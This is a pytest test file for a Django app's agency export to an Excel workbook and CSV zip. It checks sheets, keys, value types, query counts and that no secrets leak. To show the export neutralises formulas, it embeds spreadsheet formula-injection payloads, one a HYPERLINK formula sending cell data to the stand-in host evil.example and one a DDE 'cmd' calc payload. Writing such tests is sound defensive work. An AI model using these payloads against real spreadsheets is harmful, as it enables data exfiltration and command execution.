"""The export (docs/data.md): the whole agency as a workbook and as a zip of CSVs, read back
with openpyxl, on the demo agency and on a generated one."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal
from io import StringIO

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django_scopes import scope, scopes_disabled

from api.tokens import issue as issue_token
from dataio import export, schema
from okrs.models import CheckIn, KeyResult
from scorecards.models import Measure, MeasureValue
from strategyhub import csvsafe
from strategyhub.models import Membership, Organization, User

pytestmark = pytest.mark.usefixtures("clock")


@pytest.fixture
def riverton(db):
    with scopes_disabled():
        call_command("seed_demo", "--allow-known-passwords", stdout=StringIO())
    return Organization.objects.get(slug="riverton")


@pytest.fixture
def generated(db):
    call_command("generate_agency", "--slug", "gen", "--scale", "small", stdout=StringIO())
    return Organization.objects.get(slug="gen")


def workbook_of(organization: Organization, read_only: bool = True) -> openpyxl.Workbook:
    out = io.BytesIO()
    export.write_workbook(organization, out)
    out.seek(0)
    return openpyxl.load_workbook(out, read_only=read_only)


def sheet_rows(workbook, name: str) -> list[dict]:
    rows = list(workbook[name].iter_rows(values_only=True))
    assert rows, f"{name} has no header row"
    width = len(rows[0])  # a row read back ends at its last filled cell
    return [
        dict(zip(rows[0], (*row, *[None] * (width - len(row))), strict=True)) for row in rows[1:]
    ]


def every_text(workbook) -> list[str]:
    return [
        value
        for worksheet in workbook.worksheets
        for row in worksheet.iter_rows(values_only=True)
        for value in row
        if isinstance(value, str)
    ]


@pytest.mark.parametrize("agency", ["riverton", "generated"])
def test_every_sheet_is_exported_with_its_headers_rows_and_keys(request, agency):
    organization = request.getfixturevalue(agency)
    workbook = workbook_of(organization)
    assert workbook.sheetnames == [schema.README, *(sheet.name for sheet in schema.SHEETS)]
    for sheet in schema.SHEETS:
        header = next(workbook[sheet.name].iter_rows(values_only=True))
        assert header == sheet.headers, sheet.name
        rows = sheet_rows(workbook, sheet.name)
        if sheet.key:
            keys = [tuple(row[name] for name in sheet.key) for row in rows]
            assert len(keys) == len(set(keys)), f"{sheet.name}: a key twice"
            assert all(all(part is not None for part in key) for key in keys), sheet.name
    with scope(organization=organization):
        expected = {
            "Measures": set(Measure.objects.values_list("external_key", flat=True)),
            "Key results": set(KeyResult.objects.values_list("external_key", flat=True)),
            "Check-ins": set(CheckIn.objects.values_list("external_key", flat=True)),
            "Members": set(Membership.objects.values_list("user__email", flat=True)),
        }
        values = MeasureValue.objects.count()
    for name, keys in expected.items():
        column = schema.sheet(name).key[0]
        assert {row[column] for row in sheet_rows(workbook, name)} == keys, name
    assert len(sheet_rows(workbook, "Measure values")) == values
    for name in ("Plan", "Measures", "Measure values", "Cycles", "Key results", "Check-ins"):
        assert sheet_rows(workbook, name), f"{name} is empty for {agency}"
    assert sheet_rows(workbook, "Audit history")


def test_references_name_the_other_sheets_keys(riverton):
    workbook = workbook_of(riverton)
    keys = {
        sheet.name: {row["Key"] for row in sheet_rows(workbook, sheet.name)}
        for sheet in schema.SHEETS
        if sheet.key == ("Key",)
    }
    for sheet in schema.SHEETS:
        if not sheet.importable:
            continue
        for row in sheet_rows(workbook, sheet.name):
            for column in sheet.columns:
                if column.kind == schema.Kind.REF and row[column.header] is not None:
                    assert row[column.header] in keys[column.ref], (sheet.name, column.header)


def test_the_demo_values_come_back_exactly_with_their_types(riverton):
    workbook = workbook_of(riverton)
    with scope(organization=riverton):
        stored = {
            (m, p): v
            for m, p, v in MeasureValue.objects.values_list(
                "measure__external_key", "period", "value"
            )
        }
        members = dict(Membership.objects.values_list("user__email", "role"))
    rows = sheet_rows(workbook, "Measure values")
    for row in rows:
        assert isinstance(row["Period"], dt.datetime)  # a date cell
        assert schema.to_decimal(row["Value"]) == stored[row["Measure"], row["Period"].date()]
        assert isinstance(row["Value"], int | float)  # short decimals are numbers
    assert {row["Email"]: row["Role"] for row in sheet_rows(workbook, "Members")} == members
    assert all(isinstance(row["Active"], bool) for row in sheet_rows(workbook, "Members"))


def test_a_text_starting_with_equals_stays_text_and_long_decimals_stay_exact(riverton):
    with scope(organization=riverton):
        measure = Measure.objects.order_by("pk").first()
        measure.name = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
        measure.definition = "=1+2"
        measure.save()
        value = MeasureValue.objects.filter(measure=measure).order_by("period").first()
        value.value = Decimal("12345678901234.123456")  # 20 significant digits
        value.note = "@SUM(A1:A3)"
        value.save()
    workbook = workbook_of(riverton, read_only=False)
    cells = {c.value: c for row in workbook["Measures"].iter_rows() for c in row}
    cell = cells[measure.name]
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cells["=1+2"].data_type == "s"
    values = [
        row
        for row in sheet_rows(workbook, "Measure values")
        if row["Measure"] == measure.external_key and row["Period"].date() == value.period
    ]
    assert values[0]["Value"] == "12345678901234.123456"  # too long for a number: exact text
    assert schema.to_decimal(values[0]["Value"]) == value.value
    assert values[0]["Note"] == "@SUM(A1:A3)"
    assert not any(
        c.data_type == "f" for ws in workbook.worksheets for row in ws.iter_rows() for c in row
    )


def test_no_password_token_or_secret_is_exported(riverton):
    with scopes_disabled():
        admin = Membership.objects.get(organization=riverton, role="admin")
        issued = issue_token(admin, name="Feed", scope="read", expires_in_days=30)
        hashes = list(User.objects.values_list("password", flat=True))
    texts = every_text(workbook_of(riverton))
    assert texts
    for text in texts:
        assert issued.secret not in text
        assert not text.startswith(("pbkdf2_", "argon2", "bcrypt", "shk_"))
        assert text not in hashes
    headers = {h.lower() for sheet in schema.SHEETS for h in sheet.headers}
    assert not {"password", "token", "secret", "mfa"} & headers


def test_the_zip_holds_one_csv_per_sheet_with_a_bom_and_neutralised_formulas(riverton):
    with scope(organization=riverton):
        measure = Measure.objects.order_by("pk").first()
        measure.name = "=cmd|' /C calc'!A0"
        measure.save()
    out = io.BytesIO()
    export.write_zip(riverton, out)
    archive = zipfile.ZipFile(out)
    names = [f"{schema.README}.csv", *(f"{sheet.name}.csv" for sheet in schema.SHEETS)]
    assert sorted(archive.namelist()) == sorted(names)
    for sheet in schema.SHEETS:
        raw = archive.read(f"{sheet.name}.csv")
        assert raw.startswith(codecs.BOM_UTF8), sheet.name
        rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
        assert tuple(rows[0]) == sheet.headers
    measures = list(csv.DictReader(io.StringIO(archive.read("Measures.csv").decode("utf-8-sig"))))
    written = next(row for row in measures if row["Key"] == measure.external_key)
    assert written["Name"] == "'" + measure.name  # a spreadsheet shows it as text
    assert csvsafe.undo(written["Name"]) == measure.name
    budget = [row for row in measures if row["Range low"]]
    assert budget and budget[0]["Range low"] == "-2"  # a negative number stays a number


def test_the_export_takes_the_same_few_queries_whatever_the_agency_size(riverton, generated):
    counts = []
    for organization in (riverton, generated, riverton):
        with CaptureQueriesContext(connection) as queries:
            export.write_workbook(organization, io.BytesIO())
        counts.append(len(queries))
    assert counts[1] == counts[2]  # the generated agency has more rows than the demo
    assert counts[2] <= 40


def test_export_agency_writes_both_formats(riverton, tmp_path):
    out = StringIO()
    call_command(
        "export_agency", "--slug", "riverton", "--out", str(tmp_path / "r.xlsx"), stdout=out
    )
    assert "Exported City of Riverton" in out.getvalue()
    assert openpyxl.load_workbook(tmp_path / "r.xlsx", read_only=True)["Measures"]
    call_command(
        "export_agency", "--slug", "riverton", "--out", str(tmp_path / "r.zip"), stdout=out
    )
    assert "Measure values.csv" in zipfile.ZipFile(tmp_path / "r.zip").namelist()
    with pytest.raises(CommandError, match="no agency"):
        call_command("export_agency", "--slug", "nowhere", "--out", str(tmp_path / "x.xlsx"))
    with pytest.raises(CommandError, match=r"\.xlsx or a \.zip"):
        call_command("export_agency", "--slug", "riverton", "--out", str(tmp_path / "x.xls"))
